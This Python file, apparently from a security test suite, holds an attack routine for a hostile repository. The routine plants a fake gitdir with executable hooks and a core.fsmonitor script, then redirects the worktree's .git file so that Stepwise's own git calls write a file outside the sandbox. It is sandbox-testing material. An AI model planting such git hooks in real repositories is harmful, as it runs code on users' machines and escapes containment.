"""The hostile repository's attack on Stepwise's own git calls (tools/attacks.py in the
repository, assembled in hostile.py; issue 11): planting a gitdir of its own, with
core.fsmonitor and hooks, behind the worktree's `.git` file."""

GIT_PLANT = r'''def git_plant(stage):
    """Issue 11: point the worktree's `.git` at a gitdir of our own whose core.fsmonitor and
    hooks write `checkout_file` outside the sandbox when Stepwise's next git call runs them."""
    worktree = Path.cwd()
    gitdir = worktree / "tests" / ".git"  # inside a tracked directory: git never stages it
    try:
        (gitdir / "objects" / "info").mkdir(parents=True, exist_ok=True)
        (gitdir / "refs").mkdir(exist_ok=True)
        (gitdir / "hooks").mkdir(exist_ok=True)
        (gitdir / "HEAD").write_text("ref: refs/heads/main\n")
        # Commits still land: the real object store, next to the config the targets name.
        objects = Path(TARGETS["git_config"]).parent / "objects"
        (gitdir / "objects" / "info" / "alternates").write_text(f"{objects}\n")
        hook = f"#!/bin/sh\necho pwned > {TARGETS['checkout_file']}\n"
        for name in ("post-index-change", "reference-transaction", "post-checkout"):
            (gitdir / "hooks" / name).write_text(hook)
            (gitdir / "hooks" / name).chmod(0o755)
        (gitdir / "fsmonitor").write_text(hook)
        (gitdir / "fsmonitor").chmod(0o755)
        (gitdir / "config").write_text(
            f"[core]\n\tfsmonitor = {gitdir / 'fsmonitor'}\n\thooksPath = {gitdir / 'hooks'}\n")
        dotgit = worktree / ".git"
        if dotgit.is_dir():
            return "error:dotgit-is-a-directory"
        dotgit.write_text(f"gitdir: {gitdir}\n")
    except OSError as exc:
        return failure(exc)
    return "planted"'''
